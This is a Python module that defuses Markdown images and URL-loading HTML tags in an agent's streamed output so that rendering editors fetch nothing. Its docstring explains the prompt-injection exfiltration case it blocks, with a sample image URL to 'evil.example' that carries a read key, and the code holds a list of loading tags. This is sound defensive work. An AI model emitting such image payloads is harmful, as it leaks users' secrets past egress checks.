"""Markdown images and HTML that load a URL by themselves, made inert in the
model's text an editor renders.

Why: an editor that renders the agent's Markdown (ACP clients do) fetches
``![x](https://evil.example/p.png?k=…)`` or ``<img src=…>`` as soon as it draws
it, with no click and no question: the classic way a prompt-injected model sends
out what it read (a key in a file it was allowed to read), past every egress
check the tools go through. A link needs the user's click, so an image becomes
a link: its ``!`` is escaped (``\\![alt](url)`` renders as "!" and a link; the alt
text and the URL stay readable), and a tag that could load something is shown as
text (``&lt;img``). The TUI and the line mode draw no images and do not need this.

What is left as written is only what every renderer agrees is code: a fenced
block opened at the start of a line (no indent) and closed by its own fence (a
line of the fence's run alone). Once a fence line came indented (1 to 3 spaces:
a fence to some renderers in some places, text in others), no later fence is
trusted in that message.
Inline code spans and indented fences are NOT trusted: whether a backtick run is
a span depends on a closing run later in the same paragraph, and where a
paragraph ends depends on the renderer (lists, tables, headings); one stray
backtick made the rest of a reply "code" here and live images in the editor
(finding S4). An image in an inline span costs a visible backslash; never a
fetch. Tags are text when they could load or start an HTML block (one that
hides a fence from the editor, not from us): a loading tag, a tag with
attributes, or a tag not glued to a word (``Vec<String>`` stays as written).

The text arrives in pieces: :class:`ImageDefuser` holds back a piece's end that
could begin a pattern (``!``, ``<ifr``) until the next piece says what it is.
It takes one more pass over the same parts (outside fenced code, whole patterns
only): ACP's gives it the link policy's (:func:`shell.frontend.linkopen.defuse_links`),
which this layer cannot import.
"""

from __future__ import annotations

import re
from collections.abc import Callable

LOADING_TAGS = (
    "img", "image", "picture", "source", "video", "audio", "iframe", "frame", "embed", "object",
    "link", "script", "svg", "input", "body", "meta", "style", "track",
)
"""HTML elements that fetch a URL when rendered (``input type=image``, ``body background``,
``meta http-equiv=refresh``, ``style`` with ``url()``) — shown as text wherever they are."""

NAME_LIMIT = 40
"""A tag name longer than this is taken for a tag with attributes (text): a piece
boundary then never decides differently from the whole."""

_NAME = r"[A-Za-z][A-Za-z0-9-]"
_TAG = re.compile(
    r"<(?=[/!?]?(?:(?:" + "|".join(LOADING_TAGS) + r")(?![A-Za-z0-9-])"  # loads: always
    r"|" + _NAME + r"{0," + str(NAME_LIMIT - 1) + r"}(?:\s|\Z)"  # has attributes (or cannot tell)
    r"|" + _NAME + r"{" + str(NAME_LIMIT) + r"}))"  # too long to tell
    r"|(?<![A-Za-z0-9_])<(?=[/!?]?[A-Za-z]|!--|\?)",  # not glued to a word: may open an HTML block
    re.IGNORECASE,
)
"""A ``<`` shown as text (``&lt;``). Not glued to a word, it is also any start of an
HTML block with no tag name: a comment ``<!--`` and a processing instruction ``<?``
(CommonMark's kinds 2 and 3; ``<![CDATA[`` loses its ``!`` as an image's would). A
fence line inside such a block is raw HTML to the renderer, while the defuser took it
for a fence and left what followed as written: a live image (finding U4)."""
_IMAGE = re.compile(r"(\\*)!(?=\[)")
_OPEN_END = re.compile(r"(?:\\*!?|<!-|<[/!?]?(?:" + _NAME + r"{0," + str(NAME_LIMIT) + r"})?)\Z")
"""A piece's end that may begin a pattern: backslashes (they decide whether a ``!``
that follows is escaped already), a ``!``, ``<`` and a tag name's letters."""


def _escape(match: re.Match[str]) -> str:
    slashes = match.group(1)
    return match.group(0) if len(slashes) % 2 else slashes + "\\!"  # odd: escaped already


def defang_images(text: str, before: str = "") -> str:
    """``text`` with every Markdown image made a link and every tag that could load
    shown as text. ``before``: the character just before ``text`` (a tag glued to
    a word stays)."""
    if "!" not in text and "<" not in text:
        return text
    text = _IMAGE.sub(_escape, text)
    if before:
        return _TAG.sub("&lt;", before[-1] + text)[1:]
    return _TAG.sub("&lt;", text)


_FENCE_RUN = re.compile(r"[`~]+\Z")


class ImageDefuser:
    """:func:`defang_images` over a stream, outside fenced code: ``feed`` returns
    what can be sent now, ``flush`` the rest at the stream's end. A fenced block is
    drawn as text by every renderer, so it loads nothing and is left as the model
    wrote it: HTML in a ```` ```html ```` block stays ``<img``."""

    __slots__ = ("_also", "_also_hold", "_candidate", "_closing", "_distrust", "_fence", "_held", "_indent",
                 "_last")

    def __init__(
        self, also: Callable[[str], str] | None = None, also_hold: re.Pattern[str] | None = None
    ) -> None:
        """``also``: a further pass over each part outside fenced code, after the
        images'; ``also_hold``: the end of a piece it cannot judge yet (held back)."""
        self._also = also
        self._also_hold = also_hold
        self._held = ""
        self._fence: tuple[str, int] | None = None  # the open fence's character and length
        self._candidate: tuple[str, int] | None = None
        """A fence opened on this line, decided at its end: a backtick in a backtick
        fence's info string makes it no fence (its line is text either way)."""
        self._indent = 0  # spaces since the line began; -1 once anything else came
        self._last = ""  # the last character sent (a tag glued to a word stays)
        self._closing = False
        """A closing fence run came on this line, decided at its end: anything but spaces
        after it makes it the code's text, for the renderer too (``` ```a` ``` inside a
        fence closes nothing; closing there let the next fence line open ours while it
        closed the renderer's)."""
        self._distrust = False
        """An indented fence line (1 to 3 spaces) came outside a fence: the renderer may
        have opened a fence there (at the top level, in a list item) or not (an info
        string, a list that ended), so a later column-0 fence line may close the
        renderer's fence while it would open ours, leaving prose "code" to us only. From
        then on no fence is trusted: code costs a visible backslash, never a fetch."""

    def feed(self, piece: str) -> str:
        text = self._held + piece
        run = _FENCE_RUN.search(text)  # its length decides what it opens or closes
        tail = run if run is not None else _OPEN_END.search(text)
        cut = tail.start() if tail is not None else len(text)
        if self._also_hold is not None and (more := self._also_hold.search(text)) is not None:
            cut = min(cut, more.start())
        self._held = text[cut:]
        return self._scan(text[:cut])

    def flush(self) -> str:
        held, self._held = self._held, ""
        return self._scan(held)

    def discard(self) -> None:
        """Forget what is held back unsent (a withdrawn attempt's end): the fence
        state stays that of what was sent."""
        self._held = ""

    def settle(self, *, line_end: bool = False) -> str:
        """What is held, then what closes a fenced block left open, so that text
        joined after it starts outside code for every renderer as for us: the
        renderer's fence was opened by the same line we took for one, and a run of
        its character and length closes it. ``line_end``: end a line that has text
        too, for a renderer that starts a new document here as for one that joins."""
        out = self.flush()
        if self._fence is not None or self._candidate is not None:
            out += self._scan("\n")
            if self._fence is not None:
                char, run = self._fence
                out += self._scan(char * run + "\n")
        elif line_end and self._indent != 0:
            out += self._scan("\n")
        return out

    def _scan(self, text: str) -> str:
        """``text`` with the parts outside fenced code defanged; the fence state carried on."""
        out: list[str] = []
        start = i = 0
        n = len(text)

        def emit(end: int) -> None:
            nonlocal start
            part = text[start:end]
            last = part[-1:] if part else ""
            if self._fence is None:
                part = defang_images(part, self._last)
                if self._also is not None:
                    part = self._also(part)
            out.append(part)
            if last:
                self._last = last
            start = end

        while i < n:
            ch = text[i]
            if ch == "\n":
                self._indent = 0
                if self._closing:  # the closing line ended: out of the fence from here on
                    emit(i)
                    self._fence, self._closing = None, False
                if self._candidate is not None:  # the opening line ended: a fence from here on
                    emit(i)
                    self._fence, self._candidate = self._candidate, None
                i += 1
                continue
            if ch not in "`~":
                if self._closing and ch not in " \t":
                    self._closing = False
                self._indent = self._indent + 1 if ch == " " and 0 <= self._indent < 4 else -1
                i += 1
                continue
            j = i
            while j < n and text[j] == ch:
                j += 1
            self._fence_run(ch, j - i, self._indent)
            self._indent = -1
            i = j
        emit(n)
        return "".join(out)

    def _fence_run(self, ch: str, run: int, indent: int) -> None:
        """What a run of ``run`` backticks or tildes after ``indent`` spaces (-1: after
        other text) does to the fence state; it takes effect at the line's end."""
        if self._closing:
            self._closing = False  # more after the closing run: still code
        elif self._fence is not None:
            if 0 <= indent < 4 and ch == self._fence[0] and run >= self._fence[1]:
                self._closing = True
        elif self._candidate is not None:
            if ch == "`" and self._candidate[0] == "`":
                self._candidate = None  # a backtick in the info string: no fence
        elif indent == 0 and run >= 3 and not self._distrust:
            self._candidate = (ch, run)
        elif 0 <= indent < 4 and run >= 3:
            self._distrust = True


def defuse_images(text: str, defuser: ImageDefuser | None = None) -> str:
    """A whole text through :class:`ImageDefuser` (fenced code left as written): for
    what is sent or written at once, a replayed message or an exported session.
    ``defuser``: a fresh one with a further pass (see :class:`ImageDefuser`)."""
    images = defuser if defuser is not None else ImageDefuser()
    return images.feed(text) + images.flush()


__all__ = ["LOADING_TAGS", "ImageDefuser", "defang_images", "defuse_images"]
